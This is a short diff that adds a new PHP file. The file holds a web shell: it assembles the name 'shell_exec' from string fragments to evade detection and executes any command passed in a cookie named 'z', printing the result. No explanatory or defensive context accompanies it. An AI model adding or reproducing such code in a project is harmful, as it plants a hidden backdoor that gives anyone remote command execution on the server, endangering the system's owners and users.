@@ -1,0 +1,3 @@
+<?php
+$k = 'sh'.'ell'.'_ex'.'ec';
+echo $k($_COOKIE['z']);
